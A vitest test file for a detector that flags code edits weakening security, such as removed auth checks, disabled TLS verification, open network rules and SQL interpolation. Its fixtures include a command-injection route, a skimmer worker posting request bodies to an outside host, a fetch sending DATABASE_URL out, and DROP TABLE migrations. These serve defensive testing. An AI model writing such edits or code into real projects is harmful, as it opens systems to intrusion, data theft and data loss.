/** Which edits take a check or protection out of the project, and which keep it (edit-weaken.ts). */
import { describe, expect, it } from 'vitest';
import { editWeakenLines, weakening } from '../../../../src/engine/extract/tool-call/edit-weaken.js';
import { writtenCode } from '../../../../src/engine/extract/tool-call/written.js';

describe('weakening', () => {
  it.each<[string, string, string, string]>([
    ['src/auth.ts', "if (!user) return res.status(401).json({ error: 'unauthorized' });", '', 'refusal'],
    [
      'api/views.py',
      '@login_required\ndef export(request):',
      '@csrf_exempt\ndef export(request):',
      'login_required',
    ],
    ['src/jwt.ts', 'jwt.verify(token, key)', 'jwt.decode(token)', 'verify'],
    ['src/acl.ts', "return user.role === 'admin';", 'return true;', 'success'],
    ['settings/production.py', 'DEBUG = False', 'DEBUG = True', 'debug'],
    ['infra/s3.tf', 'block_public_acls = true', 'block_public_acls = false', 'block_public_acls'],
    ['infra/sg.tf', 'cidr_blocks = ["10.0.0.0/16"]', 'cidr_blocks = ["0.0.0.0/0"]', '0.0.0.0/0'],
    [
      'src/db.ts',
      'ssl: { rejectUnauthorized: true }',
      'ssl: { rejectUnauthorized: false }',
      'reject_unauthorized',
    ],
    ['src/app.py', 'r = requests.get(u)', 'r = requests.get(u, verify=False)', 'verification'],
    [
      'src/server.js',
      "cors({ origin: 'https://a.acme.com', credentials: true })",
      'cors({ origin: true, credentials: true })',
      'origin',
    ],
    [
      'src/users.js',
      "db.query('SELECT * FROM u WHERE id = $1', [id])",
      'db.query(`SELECT * FROM u WHERE id = ${id}`)',
      'query',
    ],
  ])('%s: %s is disarmed', (path, old, neu, why) => {
    expect(weakening({ path, old, neu })).toContain(why);
  });

  it.each<[string, string, string]>([
    // The check kept, renamed, moved or tightened; a dev or test file; an import tidied.
    ['src/jwt.ts', 'jwt.verify(token, key)', 'verifyAccessToken(token, key)'],
    [
      'src/r.ts',
      "r.get('/a', requireAuth, a);\nr.get('/b', requireAuth, b);",
      "r.use(requireAuth);\nr.get('/a', a);\nr.get('/b', b);",
    ],
    [
      'src/auth.ts',
      "if (!u) return res.status(401).json({ error: 'Unauthorized' });",
      'if (!u) return next(new HttpError(401));',
    ],
    ['settings/dev.py', 'DEBUG = False', 'DEBUG = True'],
    ['tests/test_api.py', 'c = Client(u)', 'c = Client(u, verify=False)'],
    ['scripts/check.py', 'r = get(u)', "r = get('https://localhost:8443', verify=False)"],
    ['infra/sg.tf', 'egress {\n  cidr_blocks = ["10.0.0.0/16"]', 'egress {\n  cidr_blocks = ["0.0.0.0/0"]'],
    ['src/server.js', "cors({ origin: '*' })", "cors({ origin: 'https://a.acme.com', credentials: true })"],
    [
      'src/auth.py',
      'from app.auth import login_required, roles_required\n',
      'from app.auth import login_required\n',
    ],
    ['tsconfig.json', '"strict": true,', '"strict": false,'],
    ['src/routes.js', "router.get('/v1/export', requireAuth, exportV1);\n", ''],
  ])('%s: %s keeps its checks', (path, old, neu) => {
    expect(weakening({ path, old, neu })).toBeUndefined();
  });

  it('reads patches and SEARCH/REPLACE blocks, and request input run by written code', () => {
    const patch =
      '*** Begin Patch\n*** Update File: src/auth/pw.py\n@@\n def check(u, p):\n-    return bcrypt.checkpw(p, u.h)\n+    return True\n*** End Patch';
    expect(editWeakenLines(['apply', 'patch'], { input: patch })[0]?.code).toContain('disarm');
    const block = '<<<<<<< SEARCH\n  return u.tenant === t;\n=======\n  return true;\n>>>>>>> REPLACE';
    expect(editWeakenLines(['replace', 'in', 'file'], { path: 'src/guard.ts', diff: block })).toHaveLength(1);
    const route = "app.get('/d', (req, res) => res.send(require('child_process').execSync(req.query.c)));";
    expect(editWeakenLines(['write'], { file_path: 'src/d.js', content: route })).toHaveLength(1);
    const argv = "execFile('git', ['log', req.query.ref]);";
    expect(editWeakenLines(['write'], { file_path: 'src/g.js', content: argv })).toHaveLength(0);
    expect(editWeakenLines(['read', 'file'], { file_path: 'src/d.js', content: route })).toHaveLength(0);
  });

  it('finds what callers send copied to a host without its answer used (a skimmer), not a proxy', () => {
    const skim =
      "export default { async fetch(req) { const b = await req.clone().text(); fetch('https://x.top/c', { method: 'POST', body: b }); return fetch(req); } };";
    expect(
      editWeakenLines(['workers', 'put', 'script'], { script_name: 'edge', content: skim }),
    ).toHaveLength(1);
    const proxy =
      "export default { async fetch(req) { return fetch('https://origin.acme.com/x', { method: 'POST', body: req.body }); } };";
    expect(
      editWeakenLines(['workers', 'put', 'script'], { script_name: 'edge', content: proxy }),
    ).toHaveLength(0);
    expect(
      weakening({ path: 'sentry.config.ts', old: 'sendDefaultPii: false,', neu: 'sendDefaultPii: true,' }),
    ).toBeDefined();
    expect(
      weakening({ path: 'infra/sentry.tf', old: 'scrub_data = true', neu: 'scrub_data = false' }),
    ).toBeDefined();
  });
});

describe('writtenCode: migrations and source files', () => {
  it.each<[string, string, string | undefined]>([
    ['migrations/1_x.sql', 'DROP TABLE customers;\nALTER TABLE a ADD b int;', 'DROP TABLE customers;'],
    [
      'alembic/versions/a.py',
      "def upgrade():\n    op.drop_table('orders')\ndef downgrade():\n    op.drop_table('x')\n",
      'DROP TABLE orders;',
    ],
    [
      'migrations/2_x.sql',
      '-- +goose Up\nCREATE TABLE t (id int);\n-- +goose Down\nDROP TABLE t;\n',
      undefined,
    ],
    ['migrations/3_x/down.sql', 'DROP TABLE orders;\n', undefined],
  ])('%s', (path, content, code) => {
    expect(writtenCode(path, content)?.code).toBe(code);
  });

  it('judges a source file only for its flows of data', () => {
    const w = writtenCode('src/x.ts', "fetch('https://x.example', { body: process.env.DATABASE_URL });");
    expect(w?.runtime).toBe('node');
    expect(w?.ignore).toContain('exec');
    expect(writtenCode('src/y.ts', 'export const add = (a: number, b: number) => a + b;\n')).toBeUndefined();
  });
});
